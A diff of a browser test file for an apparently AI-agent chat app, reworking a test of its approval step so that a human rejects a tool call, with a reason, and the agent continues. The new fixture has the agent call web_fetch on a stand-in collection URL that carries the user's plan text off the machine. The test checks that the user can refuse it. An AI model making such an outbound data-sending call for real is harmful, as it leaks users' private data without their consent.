@@ -5,7 +5,7 @@ import { afterAll, afterEach, describe, expect, test } from 'vitest';
 import { closeBrowser, PHONE, stage, visit, watch, WIDE, type Answer, type Stage, type Visit } from './stage';
 
 const PLAN = 'people/owner/vault/plan.md';
-const edit = (id: string, from: string, to: string): Answer => ({ calls: [{ id, name: 'edit_file', input: { path: 'plan.md', old_text: from, new_text: to } }] });
+const edit = (id: string, from: string, to: string): Answer => ({ calls: [{ id, name: 'edit_file', input: { path: 'plan.md', old: from, new: to } }] });
 const CAREFUL = [{ id: 'main', name: 'Main', default: true, model: 'mine/some-model', tier: 'suggest' }];
 
 let ends: (() => Promise<unknown>)[] = [];
@@ -100,20 +100,20 @@ describe.each([
     expect(page.wrongs).toEqual([]);
   });
 
-  test('an agent that needs a yes waits for it, and goes on when it comes', async () => {
+  test('an agent that needs a yes waits for it, and goes on when it is told no', async () => {
     const at = await begin(
-      [{ calls: [{ id: 'a', name: 'delete_file', input: { path: 'plan.md' } }] }, { text: 'It is gone.' }],
+      [{ calls: [{ id: 'a', name: 'web_fetch', input: { url: 'https://a.example/collect?plan=drive' } }] }, { text: 'Then I leave it.' }],
       [{ id: 'main', name: 'Main', default: true, model: 'mine/some-model', tier: 'act' }],
     );
     const page = await open(at, viewport);
-    await say(page, 'delete the plan');
-    await card(page).getByText('cannot be taken back').waitFor();
-    expect(await plan(at)).toBe('Drive up after lunch\n');
-    await page.getByRole('link', { name: /Inbox/ }).first().waitFor();
+    await say(page, 'what is new?');
+    await card(page).getByText('leaves this machine').waitFor();
     await card(page).focus();
-    await page.keyboard.press('a');
-    await page.locator('[role=log]').getByText('It is gone.').waitFor();
-    await expect(plan(at)).rejects.toThrow();
+    await page.keyboard.press('r');
+    await card(page).getByLabel('Reason').fill('not that one');
+    await page.keyboard.press('Enter');
+    await page.locator('[role=log]').getByText('Then I leave it.').waitFor();
+    await card(page).getByText('“not that one”').waitFor();
     expect(page.wrongs).toEqual([]);
   });
 });
